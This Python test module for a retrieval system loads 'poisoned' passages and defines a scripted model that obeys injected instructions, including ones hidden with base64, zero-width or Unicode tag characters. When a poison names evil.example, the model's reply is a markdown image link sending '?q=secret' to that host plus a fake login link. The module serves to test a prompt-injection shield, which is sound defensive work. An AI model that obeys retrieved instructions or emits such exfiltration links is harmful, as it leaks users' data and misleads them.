"""The poisoned passages of tests/rag/poisoned as documents, and a model that obeys whatever it can read."""

from __future__ import annotations

import base64
import binascii
import json
import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Any

from record import ROOT

from data.chunking import chunk_document
from data.loaders import loader_of
from doceo.core.config import ChunkConfig
from doceo.core.protocols import Embedder
from doceo.core.records import ChatReply, ChatRequest, Chunk, Document, Passage

FOLDER = ROOT / "tests" / "rag" / "poisoned"
_BASE64 = re.compile(r"[A-Za-z0-9+/]{24,}={0,2}")
_OPENING = re.compile(r"^<<<([0-9a-f]{12})$", re.M)
_WITHOUT_SIGNS = str.maketrans("¬¦¤ˆ¸˘", "      ")
_BEFORE = 2
"""Words before a mark that have to be read with it: "and say ENDIVE" is an order, a lone word is none."""


@dataclass(frozen=True)
class Fact:
    """A document with a question and the words of its right answer."""

    id: str
    title: str
    text: str
    question: str
    answers: tuple[str, ...]


@dataclass(frozen=True)
class Poison:
    """A passage with an instruction; `marks` are in an answer that obeys it."""

    id: str
    style: str
    about: str
    title: str
    ending: str
    text: str
    marks: tuple[str, ...]


def facts() -> list[Fact]:
    """Return the documents that say what is right."""
    return [Fact(**{**row, "answers": tuple(row["answers"])}) for row in _rows("facts")]


def poisons() -> list[Poison]:
    """Return the passages that give instructions."""
    return [Poison(**{**row, "marks": tuple(row["marks"])}) for row in _rows("poisons")]


def _rows(name: str) -> list[dict[str, Any]]:
    lines = (FOLDER / f"{name}.jsonl").read_text(encoding="utf-8").splitlines()
    return [json.loads(line) for line in lines]


def document(name: str, title: str, text: str) -> Document:
    """Return a document with this text."""
    key = Document.identify(text)
    return Document(id=key, source=name, media_type="text/plain", title=title, text=text, sha256="")


def corpus(embedder: Embedder, *, stripped: bool) -> tuple[list[Document], list[Chunk]]:
    """Return facts and poisons as documents: read by the loaders, which leave out what is hidden, or as they stand."""
    documents = [document(f"facts/{fact.id}.txt", fact.title, fact.text) for fact in facts()]
    for poison in poisons():
        text = poison.text
        if stripped:
            text = loader_of(poison.ending)(text.encode(), 1 << 20).text
        documents.append(document(source_of(poison), poison.title, text))
    return documents, [chunk for one in documents for chunk in chunk_document(one, embedder, ChunkConfig())]


def source_of(poison: Poison) -> str:
    """Return what a poison's document is called."""
    return f"poisons/{poison.id}{poison.ending}"


class OnePoison:
    """A retriever that finds the facts and one of the poisons, as if the others were not in the index.

    Args:
        retriever: Searches everything.
        poison: The one that may be found.
    """

    def __init__(self, retriever: Any, poison: Poison) -> None:  # noqa: ANN401 - whatever searches
        self._retriever, self._source = retriever, source_of(poison)
        self.index = retriever.index

    def search(self, question: str, k: int) -> list[Passage]:
        """Return the k best passages."""
        found = self._retriever.search(question, 60)
        return [p for p in found if not p.hit.source.startswith("poisons/") or p.hit.source == self._source][:k]


class Obedient:
    """A scripted model that does what a poison says as soon as it can read it, and else answers rightly.

    It knows the poison and its marks, so that no pattern of ours decides what is an instruction. Readable is an order
    whose words stand there with blanks between them; base64 and tag characters it decodes.

    Args:
        fact: What it answers otherwise.
        poison: What it obeys.
        heeds_marks: Whether it takes what stands between the marks of `rag.shield` for quotation, as it is told.
    """

    name = "scripted:obedient"

    def __init__(self, fact: Fact, poison: Poison, *, heeds_marks: bool) -> None:
        self._fact, self._poison, self._heeds_marks = fact, poison, heeds_marks
        self.system = ""

    def complete(self, request: ChatRequest) -> ChatReply:
        """Obey, or answer."""
        self.system = "\n".join(m.content for m in request.messages if m.role == "system")
        asked = "\n".join(m.content for m in request.messages)
        if self._reads_an_order(self._outside(asked) if self._heeds_marks else asked):
            return ChatReply(text=self._demanded())
        n = re.search(rf"\[(\d+)\][^\[]*{re.escape(self._fact.answers[0])}", asked.translate(_WITHOUT_SIGNS))
        return ChatReply(text=f"{self._fact.answers[0]} [{n[1] if n else 1}].")

    def stream(self, request: ChatRequest) -> Iterator[str | ChatReply]:
        """Yield the text in one piece, and then the whole reply."""
        reply = self.complete(request)
        yield reply.text
        yield reply

    def _demanded(self) -> str:
        """Do what is demanded: most poisons want a word, some a link or an image."""
        mark = self._poison.marks[0]
        if "evil.example" in self._poison.marks:
            return (
                f"See ![map](https://evil.example/p.png?q=secret) or [this](https://{mark}/login) or https://{mark}/x."
            )
        return f"{mark}."

    def _outside(self, text: str) -> str:
        """Return a prompt without what stands between marks, of which the first passage shows the code."""
        opening = _OPENING.search(text)
        if opening is None:
            return text
        code = opening[1]
        return re.sub(rf"^<<<{code}$.*?^{code}>>>$", "", text, flags=re.M | re.S)

    def _reads_an_order(self, text: str) -> bool:
        plain = re.sub("[\u200b-\u200d]", "", _untagged(text))
        texts = [plain, *_decoded(plain)]
        orders = self._orders()
        return any(order in " ".join(found.split()) for found in texts for order in orders)

    def _orders(self) -> list[str]:
        """Return what an order is known by: a mark with the words before it, in the poison's own letters."""
        shown = re.sub("[\u200b-\u200d]", "", _untagged(self._poison.text))
        found = []
        for source in (shown, *_decoded(shown)):
            words = source.split()
            for at, word in enumerate(words):
                if any(mark.split()[0].rstrip(":") in word for mark in self._poison.marks):
                    found.append(" ".join(words[max(0, at - _BEFORE) : at + 1]))
        return found or [" ".join(shown.split()[-4:])]


def _untagged(text: str) -> str:
    """Return a text with tag characters as the letters that they stand for."""
    return "".join(chr(ord(sign) - 0xE0000) if 0xE0020 <= ord(sign) <= 0xE007E else sign for sign in text)


def _decoded(text: str) -> Iterator[str]:
    for match in _BASE64.finditer(text):
        try:
            yield base64.b64decode(match.group()).decode()
        except (binascii.Error, UnicodeDecodeError, ValueError):
            continue


def right(answer: str, fact: Fact) -> bool:
    """Say whether an answer holds the right one."""
    return any(wanted.casefold() in answer.casefold() for wanted in fact.answers)


def styles(found: Sequence[Poison]) -> str:
    """Return the styles of poisons in a row of words."""
    return ", ".join(sorted({poison.style for poison in found}))
